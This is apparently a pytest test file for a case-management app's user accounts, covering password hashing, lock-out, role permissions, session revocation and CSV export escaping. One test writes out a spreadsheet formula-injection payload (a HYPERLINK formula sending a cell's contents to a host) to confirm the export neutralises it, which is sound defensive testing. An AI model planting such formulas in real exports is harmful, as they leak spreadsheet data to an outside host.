"""Accounts: bcrypt hashes, roles, lock-out, the first-run rule, the last admin, the audit."""

from __future__ import annotations

import datetime as dt
import time
from dataclasses import replace

import pytest

from findme.cases import users
from findme.cases.records import RecordError, open_records
from findme.config import Settings

PW = "correct horse battery"


@pytest.fixture
def records(ws_settings: Settings):
    r = open_records(replace(ws_settings, lockout_attempts=3, lockout_minutes=0.02))
    yield r
    r.engine.dispose()


def test_password_is_stored_only_as_a_bcrypt_hash(records, ws_settings: Settings) -> None:
    users.add_user(records, "boss", PW, "admin")
    records.engine.dispose()
    raw = (ws_settings.data_dir / "findme.db").read_bytes()
    assert PW.encode() not in raw and b"$2b$" in raw
    assert users.authenticate(records, "boss", PW).role == "admin"


def test_bad_accounts_are_refused(records) -> None:
    with pytest.raises(RecordError, match="at least 10"):
        users.add_user(records, "boss", "short", "admin")
    with pytest.raises(RecordError, match="role must be"):
        users.add_user(records, "boss", PW, "superuser")
    with pytest.raises(RecordError, match="user name"):
        users.add_user(records, "b o s s", PW, "admin")
    users.add_user(records, "boss", PW, "admin")
    with pytest.raises(RecordError, match="taken"):
        users.add_user(records, "boss", PW, "viewer")
    assert users.count_users(records) == 1


def test_first_run_form_cannot_make_a_second_account(records) -> None:
    with pytest.raises(RecordError, match="setup code"):
        users.add_user(records, "boss", PW, "admin", first_run=True, code="")
    code = users.setup_code(records.settings).read_text()
    assert users.setup_code(records.settings).stat().st_mode & 0o077 == 0
    users.add_user(records, "boss", PW, "admin", first_run=True, code=code)
    with pytest.raises(RecordError, match="already exists"):
        users.add_user(records, "mallory", PW, "admin", first_run=True)


@pytest.mark.heavy
def test_lock_out_after_repeated_failures_then_expiry(records) -> None:
    """Three wrong passwords lock the account (for ``lockout_minutes``: 10 here, so no timing
    matters); the right password is refused while locked; once the lock's time has passed
    (moved into the past in the database) it is accepted again."""
    from findme.cases.throttle import SignInThrottle

    records = open_records(replace(records.settings, lockout_minutes=10))
    users.add_user(records, "ana", PW, "reviewer")
    for _ in range(2):
        with pytest.raises(users.SignInFailed, match="wrong user name or password"):
            users.authenticate(records, "ana", "not the password")
    with pytest.raises(users.SignInFailed, match="locked"):
        users.authenticate(records, "ana", "not the password")
    with pytest.raises(users.SignInFailed, match="too many failed attempts"):
        users.authenticate(records, "ana", PW)  # right password, still locked
    assert users.get_user(records, "ana").locked_until > dt.datetime.now(dt.UTC)  # Admin page
    with records.session() as s:  # the lock began 10 minutes and a second ago
        row = s.get(SignInThrottle, "name:ana")
        row.window_start -= dt.timedelta(minutes=10, seconds=1)
    assert users.authenticate(records, "ana", PW).username == "ana"
    fails = [e["detail"] for e in records.audit_log(actor="ana", action="signin.fail")]
    assert "attempt 1" in fails and "attempt 3, locked" in fails and "locked" in fails
    records.engine.dispose()


@pytest.mark.heavy
def test_unknown_user_and_disabled_account(records) -> None:
    users.add_user(records, "boss", PW, "admin")
    users.add_user(records, "ana", PW, "reviewer")
    with pytest.raises(users.SignInFailed, match="wrong user name or password"):
        users.authenticate(records, "nobody", PW)
    users.set_active(records, "ana", False, "boss")
    with pytest.raises(users.SignInFailed, match="disabled"):
        users.authenticate(records, "ana", PW)
    users.set_active(records, "ana", True, "boss")
    users.reset_password(records, "ana", "a new long password", "boss")
    with pytest.raises(users.SignInFailed):
        users.authenticate(records, "ana", PW)
    assert users.authenticate(records, "ana", "a new long password")


def test_the_last_admin_stays(records) -> None:
    users.add_user(records, "boss", PW, "admin")
    with pytest.raises(RecordError, match="last active admin"):
        users.set_role(records, "boss", "viewer", "boss")
    with pytest.raises(RecordError, match="last active admin"):
        users.set_active(records, "boss", False, "boss")
    users.add_user(records, "second", PW, "admin")
    users.set_role(records, "boss", "viewer", "second")
    assert users.get_user(records, "boss").role == "viewer"


def test_permission_table() -> None:
    assert users.allowed("admin", "users.manage") and not users.allowed("investigator",
                                                                         "users.manage")
    assert not users.allowed("viewer", "cases.contact") and not users.allowed("viewer",
                                                                           "photos.view")
    assert not users.allowed("viewer", "nonexistent.permission")
    assert all(set(roles) <= set(users.ROLES) for roles in users.PERMISSIONS.values())
    assert set(users.PERMISSION_LABELS) == set(users.PERMISSIONS)


def test_guide_permission_table_is_the_code() -> None:
    """The permission table of the guide (docs/security.md) says what the code allows."""
    from pathlib import Path

    readme = (Path(__file__).parent.parent / "docs" / "security.md").read_text()
    for perm, roles in users.PERMISSIONS.items():
        row = next(line for line in readme.splitlines() if f"(`{perm}`) |" in line)
        cells = [c.strip() for c in row.strip("|").split("|")][1:]
        assert cells == ["yes" if r in roles else "-" for r in users.ROLES], perm


def test_unknown_names_cost_as_much_as_known_ones(records) -> None:
    """The hash checked for an unknown name has the configured cost (no timing oracle)."""
    rounds = records.settings.bcrypt_rounds
    assert users.dummy_hash(rounds).startswith(f"$2b${rounds:02d}$".encode())
    with pytest.raises(users.SignInFailed, match="wrong user name or password"):
        users.authenticate(records, "nobody-here", PW)


def test_audit_export_cannot_carry_a_spreadsheet_formula(records) -> None:
    """A failed sign-in name like ``=HYPERLINK(...)`` lands in the audit log; the CSV the
    Admin page exports holds it as text, not as a formula."""
    import csv
    import io

    import pandas as pd

    from findme.ui.export import safe_csv

    evil = '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"click")'
    with pytest.raises(users.SignInFailed):
        users.authenticate(records, evil, PW)
    rows = list(csv.DictReader(io.StringIO(safe_csv(pd.DataFrame(records.audit_log())))))
    actors = [r["actor"] for r in rows]
    assert "'" + evil[:100] in actors and evil[:100] not in actors
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    frame = pd.DataFrame({"photo": ["+cmd.jpg", "ok.jpg"], "score": [-0.5, 0.9]})
    assert safe_csv(frame).splitlines()[1:] == ["'+cmd.jpg,-0.5", "ok.jpg,0.9"]  # numbers stay


def test_two_admins_demoting_each_other_at_once_leave_one_admin(ws_settings: Settings) -> None:
    """The last-admin rule holds under a race: each round, two admins demote each other in
    parallel (each on its own connection); exactly one change wins and one admin is left."""
    import threading
    from concurrent.futures import ThreadPoolExecutor

    records = open_records(replace(ws_settings, bcrypt_rounds=4))
    try:
        users.add_user(records, "ann", PW, "admin")
        users.add_user(records, "bob", PW, "admin")
        for _ in range(25):
            gate = threading.Barrier(2)

            def demote(pair: tuple[str, str], gate: threading.Barrier = gate) -> bool:
                actor, target = pair
                gate.wait()
                try:
                    users.set_role(records, target, "viewer", actor=actor)
                    return True
                except RecordError:
                    return False

            with ThreadPoolExecutor(2) as pool:
                won = list(pool.map(demote, [("ann", "bob"), ("bob", "ann")]))
            admins = [u.username for u in users.list_users(records)
                      if u.role == "admin" and u.active]
            assert len(admins) == 1 and sum(won) == 1, (admins, won)
            for name in ("ann", "bob"):
                users.set_role(records, name, "admin", actor="test")
    finally:
        records.engine.dispose()


def test_cookie_sessions_end_at_sign_out_reset_disable_and_idle(ws_settings: Settings) -> None:
    """A session token signs its account in again until it is revoked, the password is reset,
    the account is disabled, or it sat idle longer than ``idle_minutes``; only its hash is
    stored."""
    from findme.cases import signins

    base = replace(ws_settings, bcrypt_rounds=4, idle_minutes=60)
    records = open_records(base)
    try:
        users.add_user(records, "ines", PW, "reviewer")
        users.add_user(records, "boss", PW, "admin")
        ines = users.get_user(records, "ines")
        token = signins.open_session(records, ines, "10.0.0.7")
        assert signins.resume(records, token).username == "ines"
        assert signins.resume(records, token + "x") is None and signins.resume(records, "") is None
        records.engine.dispose()
        assert token.encode() not in (ws_settings.data_dir / "findme.db").read_bytes()
        signins.revoke(records, token)
        assert signins.resume(records, token) is None
        token = signins.open_session(records, ines)
        users.reset_password(records, "ines", "a brand new password", actor="boss")
        assert signins.resume(records, token) is None
        ines = users.get_user(records, "ines")
        token = signins.open_session(records, ines)
        users.set_active(records, "ines", False, actor="boss")
        assert signins.resume(records, token) is None
        users.set_active(records, "ines", True, actor="boss")
        token = signins.open_session(records, users.get_user(records, "ines"))
        time.sleep(0.1)
        idle = open_records(replace(base, idle_minutes=50 / 60_000))  # 50 ms without a click
        assert signins.resume(idle, token) is None
        assert signins.resume(records, token) is None  # ended for good
        idle.engine.dispose()
    finally:
        records.engine.dispose()
